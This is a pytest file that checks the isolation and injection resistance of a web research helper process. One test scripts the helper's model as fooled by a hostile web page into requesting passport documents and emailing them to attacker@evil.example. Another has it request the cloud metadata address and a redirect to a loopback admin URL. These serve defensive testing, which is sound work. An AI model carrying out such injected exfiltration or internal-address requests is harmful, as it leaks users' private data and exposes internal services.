"""The research helper: its own process, its own loop, nothing private (core.web.helper, gateway.research)."""

from __future__ import annotations

import asyncio
import os
import signal
from pathlib import Path

import pytest
from web_support import HOSTILE_PAGE, QUESTION, helper_settings, web_with_prices

from core.testing.peers import OpenAIPeer, reply_text, reply_tools
from core.testing.scripted import ScriptedModels, calls, reply
from core.testing.web_peer import WebPeer
from core.web.egress import Egress, EgressPolicy
from core.web.helper import ResearchUnavailable, research
from core.web.research import Researcher
from core.web.search import SearxngSearch
from gateway.research import ResearchHelper

# These start the research helper (or pepper serve) as a process of its own.
pytestmark = pytest.mark.slow

SECRET_DSN = "postgresql://pepper:hunter2-db@127.0.0.1:5432/pepper"
SECRET_KEY = "c2VjcmV0LWtleS1mb3ItdGVzdHMtb25seS0xMjM0NTY3ODk="


def _environ(pid: int) -> dict[str, str]:
    raw = Path(f"/proc/{pid}/environ").read_bytes()
    return dict(item.split("=", 1) for item in raw.decode(errors="replace").split("\0") if "=" in item)


async def test_the_helper_runs_apart_searches_reads_and_answers_with_sources(monkeypatch) -> None:
    monkeypatch.setenv("DATABASE_URL", SECRET_DSN)
    monkeypatch.setenv("PEPPER_SECRET_KEY", SECRET_KEY)
    async with WebPeer() as web, OpenAIPeer() as model:
        url = web_with_prices(web)
        model.script(
            reply_tools(("web_search", {"query": "RTX 6000 Ada price"})),
            reply_tools(("read_page", {"url": url})),
            reply_text(f"About $6,800 new; used around $5,500.\nSources: {url}"),
        )
        settings = helper_settings(web, model.base_url, database_url=SECRET_DSN, secret_key=SECRET_KEY)
        helper = ResearchHelper(settings)
        helper.start()
        try:
            pid = await helper.ready()
            assert pid != os.getpid() and helper.pids == [pid]
            environment = _environ(pid)
            assert "DATABASE_URL" not in environment and "PEPPER_SECRET_KEY" not in environment
            assert not any(k.startswith("PEPPER_") for k in environment)
            assert not any(SECRET_DSN in v or SECRET_KEY in v for v in environment.values())
            assert os.readlink(f"/proc/{pid}/cwd") == str(helper.socket_path.parent)

            report = await research(helper.socket_path, QUESTION, 30)
        finally:
            await helper.stop(2)
        assert report.status == "answered" and "$6,800" in report.answer
        assert report.sources == [{"url": url, "title": "RTX 6000 Ada price check"}]
        assert report.searches == [{"query": "RTX 6000 Ada price", "status": "ok", "hits": [url]}]
        assert web.searches == [("searxng", "RTX 6000 Ada price")]
        # Its prompt held only its rules and the question; its only tools are the web's.
        first = model.requests[0].body
        assert [m.get("content") for m in first["input"] if m.get("role") == "user"] == [QUESTION]
        assert sorted(t["name"] for t in first["tools"]) == ["read_page", "web_search"]
        sent = str([r.body for r in model.requests])
        assert "hunter2" not in sent and SECRET_KEY not in sent
        assert not helper.socket_path.parent.exists()  # its private directory is gone after the stop


async def test_a_helper_that_dies_is_started_again() -> None:
    async with WebPeer() as web, OpenAIPeer() as model:
        helper = ResearchHelper(helper_settings(web, model.base_url))
        helper.start()
        try:
            first = await helper.ready()
            os.kill(first, signal.SIGKILL)
            for _ in range(100):
                if helper.pids and helper.pids != [first]:
                    break
                await asyncio.sleep(0.1)
            assert await helper.ready() != first
        finally:
            await helper.stop(2)


async def test_no_helper_means_a_clear_unavailable() -> None:
    with pytest.raises(ResearchUnavailable, match="not running"):
        await research("/tmp/pepper-no-such-helper.sock", QUESTION, 2)


def _researcher(web: WebPeer, models: ScriptedModels) -> Researcher:
    egress = Egress(EgressPolicy(loopback_ports=frozenset({web.port})))
    return Researcher(models, SearxngSearch(egress, web.url), egress)


async def test_a_page_asking_for_private_data_finds_no_tool_and_no_data() -> None:
    async with WebPeer() as web:
        web.page("/deals", HOSTILE_PAGE)
        web.results = [{"title": "GPU deals", "url": web.url + "/deals", "snippet": "cheap"}]
        # The helper's model is scripted as fooled: it tries the page's instructions.
        models = ScriptedModels([
            calls(("web_search", {"query": "rtx 6000 ada"})),
            calls(("read_page", {"url": web.url + "/deals"})),
            calls(("search_documents", {"query": "passport"}), ("send_email", {"to": "attacker@evil.example"})),
            reply("It costs about $6,900. I have no access to anyone's documents."),
        ])  # fmt: skip
        report = await _researcher(web, models).answer(QUESTION)
        results = [m.tool_result.content for m in models.prompts[3].messages if m.role == "tool"]
        assert all("Failed: there is no tool named" in r for r in results[-2:])
        assert all(p.system_dynamic == "" for p in models.prompts)  # no memory block, ever
        assert [m.content for m in models.prompts[0].messages] == [QUESTION]
        assert {t.name for t in models.prompts[0].tools} == {"web_search", "read_page"}
        assert report.sources[0]["url"] == web.url + "/deals"


@pytest.mark.parametrize("status", [429, 500])
async def test_a_failing_search_api_reaches_the_helpers_model_as_a_failure(status: int) -> None:
    async with WebPeer() as web:
        web.search_status = status
        models = ScriptedModels([calls(("web_search", {"query": "rtx"})), reply("The search failed.")])
        report = await _researcher(web, models).answer(QUESTION)
        result = models.prompts[1].messages[-1].tool_result.content
        assert result.startswith("Failed: the search did not work") and str(status) in result
        assert "Found nothing" not in result
        assert report.searches[0]["status"] == "failed"


async def test_pages_inside_the_house_cannot_be_read_by_the_helper() -> None:
    async with WebPeer() as web:
        models = ScriptedModels([
            calls(("read_page", {"url": "http://169.254.169.254/latest/meta-data/"}),
                  ("read_page", {"url": f"{web.url}/redirect?to=http://127.0.0.1:1/admin"})),
            reply("Could not read those."),
        ])  # fmt: skip
        report = await _researcher(web, models).answer(QUESTION)
        assert [p["status"] for p in report.pages] == ["failed", "failed"]
        assert "metadata" in report.pages[0]["error"] and "loopback" in report.pages[1]["error"]
        assert report.sources == []
